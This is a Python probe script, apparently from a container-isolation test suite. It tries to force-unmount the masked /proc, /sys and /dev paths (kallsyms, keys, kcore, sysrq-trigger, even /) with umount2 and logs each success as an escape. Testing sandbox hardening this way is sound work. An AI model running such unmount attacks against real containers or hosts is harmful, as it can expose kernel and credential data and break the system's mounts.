"""Unmount the masks over /proc (kallsyms, keys, timer_list...), /proc/sys, /sys and /dev mounts to uncover what they hide."""
import ctypes

from _attack import ESCAPES, NOTES, en, finish, libc, sysc  # noqa: F401

SYS_umount2 = 166
MNT_FORCE, MNT_DETACH = 1, 2


def mountpoints():
    with open("/proc/self/mountinfo") as f:
        return [line.split()[4] for line in f]


def main():
    before = mountpoints()
    targets = ["/proc/kallsyms", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/kcore",
               "/proc/sysrq-trigger", "/proc/acpi", "/proc/scsi", "/proc/latency_stats", "/proc/timer_stats",
               "/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/sys/firmware", "/sys", "/dev/null", "/dev/pts",
               "/dev/shm", "/dev", "/proc", "/"]
    targets += [m for m in before if m not in targets]
    for t in targets:
        for flags in (0, MNT_DETACH, MNT_FORCE):
            r, e = sysc(SYS_umount2, ctypes.c_char_p(t.encode()), flags)
            if r == 0:
                ESCAPES.append("umount2(%s, %d) succeeded%s" % (t, flags, "" if t in before else " (not a mount point?)"))
                break
        else:
            if t in before:
                NOTES.append("umount2(%s): %s" % (t, en(e)))
    after = mountpoints()
    if len(after) < len(before):
        ESCAPES.append("mounts gone: %s" % sorted(set(before) - set(after)))
    NOTES.append("%d mount points still in place" % len(after))


if __name__ == "__main__":
    finish(main)
